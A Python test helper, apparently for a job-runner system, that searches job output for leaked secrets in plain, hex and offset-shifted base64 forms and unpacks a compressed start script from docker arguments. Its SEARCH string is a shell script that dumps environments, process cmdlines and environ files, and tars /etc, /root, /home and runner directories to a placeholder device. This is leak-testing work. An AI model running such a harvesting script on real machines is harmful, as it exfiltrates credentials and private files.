"""Looking for secrets in what a job has found: as they are, as base64 at any offset, as hexadecimal digits."""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections.abc import Iterator

SHORTEST_LINE = 40  # a shorter line of a PEM is its head, or could stand anywhere

# Hands over whatever it may read: command lines, environments, its own variables, every file where secrets could lie.
SEARCH = """\
set +e
exec 3<>DEVICE
{
  id; set; env
  for file in /proc/[0-9]*/cmdline /proc/[0-9]*/environ; do
    printf '\\n== %s\\n' "$file"
    cat "$file"
  done
  tar -cf - --ignore-failed-read /etc /tmp /run /var/tmp /dev/shm /root /home /opt/runner-provisioner-* "$HOME" \\
    "$PWD" "$RUNNER_TEMP"
} >&3 2>/dev/null
exec 3>&-
exit 0
"""


def forms(secret: str) -> Iterator[tuple[str, bytes]]:
    """A secret as somebody could have written it, with the form's name."""
    raw = secret.encode()
    yield "plain", raw
    yield "hex", raw.hex().encode()
    yield "HEX", raw.hex().upper().encode()
    for offset in range(3):
        coded = base64.b64encode(b"\0" * offset + raw)
        # What depends on the neighbours is left off.
        first = -(-offset * 4 // 3)
        last = (offset + len(raw)) * 4 // 3
        yield f"base64+{offset}", coded[first : min(last, len(coded.rstrip(b"=")))]
        yield (
            f"base64url+{offset}",
            coded[first : min(last, len(coded.rstrip(b"=")))].translate(bytes.maketrans(b"+/", b"-_")),
        )


def found(secrets: dict[str, str], haystack: bytes) -> list[str]:
    """Names and forms of the secrets in there; of a text of several lines each long line counts."""
    bare = re.sub(rb"\s+", b"", haystack)
    hits = []
    for name, secret in secrets.items():
        lines = secret.strip().splitlines()
        parts = [line for line in lines if len(line) >= SHORTEST_LINE] if len(lines) > 1 else lines
        assert parts, name
        hits += [f"{name} ({form})" for part in parts for form, text in forms(part) if text in haystack or text in bare]
    return hits


def start_script(docker_args: str) -> str:
    """The script that travels in the start command."""
    (command,) = json.loads(docker_args)["cmd"]
    packed = re.search(r"printf %s (\S+?)\|base64", command)
    assert packed
    return gzip.decompress(base64.b64decode(packed[1])).decode()
